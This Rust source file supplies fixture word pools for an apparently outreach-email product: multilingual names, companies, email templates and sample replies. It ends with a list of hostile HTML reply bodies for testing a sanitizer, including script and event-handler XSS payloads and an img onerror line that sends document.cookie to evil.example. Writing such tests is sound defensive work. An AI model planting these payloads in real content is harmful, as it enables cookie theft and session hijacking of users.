//! Word pools for generated content. Display names carry Unicode; the second element of a
//! name pair is its ASCII form for email addresses.

pub const FIRST_NAMES: &[(&str, &str)] = &[
    ("Anna", "anna"),
    ("José", "jose"),
    ("Zoë", "zoe"),
    ("Łukasz", "lukasz"),
    ("Ольга", "olga"),
    ("Søren", "soren"),
    ("Ngọc", "ngoc"),
    ("Aísling", "aisling"),
    ("李娜", "li.na"),
    ("Mohammed", "mohammed"),
    ("Priya", "priya"),
    ("François", "francois"),
    ("Björn", "bjorn"),
    ("Chloé", "chloe"),
    ("Kenji", "kenji"),
    ("Oluwaseun", "oluwaseun"),
    ("María José", "mariajose"),
    ("Şebnem", "sebnem"),
    ("Tom", "tom"),
    ("Emily", "emily"),
    ("D'Arcy", "darcy"),
    ("Jürgen", "jurgen"),
    ("Yasmin", "yasmin"),
    ("Mateus", "mateus"),
];

pub const LAST_NAMES: &[(&str, &str)] = &[
    ("Müller", "muller"),
    ("O'Brien", "obrien"),
    ("García", "garcia"),
    ("Nowak", "nowak"),
    ("Иванова", "ivanova"),
    ("Nguyễn", "nguyen"),
    ("Smith", "smith"),
    ("Johansson", "johansson"),
    ("Dubois", "dubois"),
    ("Yılmaz", "yilmaz"),
    ("Tanaka", "tanaka"),
    ("van der Berg", "vanderberg"),
    ("Okafor", "okafor"),
    ("Kowalczyk", "kowalczyk"),
    ("Papadopoulos", "papadopoulos"),
    ("Núñez", "nunez"),
    ("Chen", "chen"),
    ("Schäfer", "schafer"),
    ("Ó Súilleabháin", "osuilleabhain"),
    ("Patel", "patel"),
];

pub const COMPANIES: &[(&str, &str)] = &[
    ("Acme Robotics", "acme-robotics"),
    ("Nordlicht GmbH", "nordlicht"),
    ("Café Société", "cafe-societe"),
    ("Blue Harbor Logistics", "blueharbor"),
    ("Žalgiris Data", "zalgiris-data"),
    ("Kumo Analytics", "kumo-analytics"),
    ("Peak & Pine", "peak-pine"),
    ("Umbrella Health", "umbrella-health"),
    ("Sunrise Solar Ltd", "sunrise-solar"),
    ("Fjord Fintech", "fjord-fintech"),
    ("Lumen Legal", "lumen-legal"),
    ("Qinghe Trading", "qinghe-trading"),
];

pub const JOB_TITLES: &[&str] = &[
    "Head of Growth",
    "CEO",
    "VP Sales",
    "Marketing Manager",
    "Founder & CEO",
    "Directeur Général",
    "CTO",
    "Operations Lead",
    "Geschäftsführer",
    "Head of Partnerships",
];

pub const CITIES: &[&str] = &[
    "Zürich",
    "São Paulo",
    "東京",
    "Kraków",
    "Austin",
    "Reykjavík",
    "Montréal",
    "Dubai",
    "Lagos",
];

pub const AGENCY_CLIENTS: &[&str] = &[
    "Northwind Outreach",
    "Ångström Labs",
    "Brightline SaaS",
    "Café Conecta",
    "Helios Recruiting",
    "Mirai Consulting",
    "Oakridge Capital",
    "Zephyr Security",
];

pub const CAMPAIGN_THEMES: &[&str] = &[
    "Q4 Outbound",
    "Founders — DACH",
    "Re-engagement",
    "Webinar follow-up",
    "Série A • France",
    "Enterprise IT",
    "Agencies UK",
    "Healthcare Ops",
];

pub const SUBJECTS: &[&str] = &[
    "Quick question, {{firstName}}",
    "Idea for {{companyName}}",
    "{{firstName}}, worth a chat?",
    "Saw your post about hiring",
    "Re: partnership",
    "A 2-minute read for {{companyName}}",
];

pub const BODIES: &[&str] = &[
    "Hi {{firstName}},\n\nI noticed {{companyName}} is growing fast. We help teams like yours book more meetings without hiring more SDRs.\n\nWorth a 15-minute call next week?",
    "Hey {{firstName}},\n\nFollowing up on my last note. Happy to send a short case study instead.",
    "{{firstName}}, one last try: should I talk to someone else at {{companyName}}?",
    "Hallo {{firstName}},\n\nkurze Frage: wer kümmert sich bei {{companyName}} um Vertrieb?",
];

pub const REPLIES: &[&str] = &[
    "Sounds interesting, can you send over some times for next week?",
    "Not interested, please remove me from your list.",
    "I'm not the right person — try our Head of Sales.",
    "Let's talk Thursday at 3pm 🙂",
    "Merci, mais nous avons déjà un prestataire.",
    "Wer sind Sie und woher haben Sie meine Adresse?",
    "ありがとうございます。資料を送っていただけますか？",
    "شكراً، يرجى إرسال المزيد من المعلومات",
    "Price?",
];

pub const AUTO_REPLIES: &[&str] = &[
    "I am out of the office until Monday with limited access to email.",
    "Thank you for your message. I'm on parental leave — für dringende Anfragen: office@example.com",
];

/// Reply bodies a sanitizer must neutralise: scripts, event handlers, remote images, tracking
/// pixels, `javascript:` links, SVG and broken markup.
pub const HOSTILE_HTML: &[&str] = &[
    "<p>Interesting!</p><script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('https://evil.example/steal?c='+document.cookie)\">Thanks",
    "<div onclick=\"alert(1)\" style=\"background:url(javascript:alert(2))\">Click me</div>",
    "<p>See <a href=\"javascript:alert('x')\">this link</a></p>",
    "<img src=\"https://tracker.example/pixel.gif?id=42\" width=\"1\" height=\"1\" alt=\"\">Sure, let's talk",
    "<svg onload=alert(1)><circle r=10></svg><p>Call me</p>",
    "<p><b>Unclosed <i>nesting</p></b><table><tr><td>cell</table><p>Sounds good",
    "<iframe src=\"https://evil.example/\"></iframe><form action=\"https://evil.example\"><input name=p></form>",
    "<style>body{display:none}</style><p>Hidden?</p><base href=\"https://evil.example/\">",
    "<a href=\"https://example.com\" target=_blank>ok</a><img src=\"http://remote.example/logo.png\">",
];
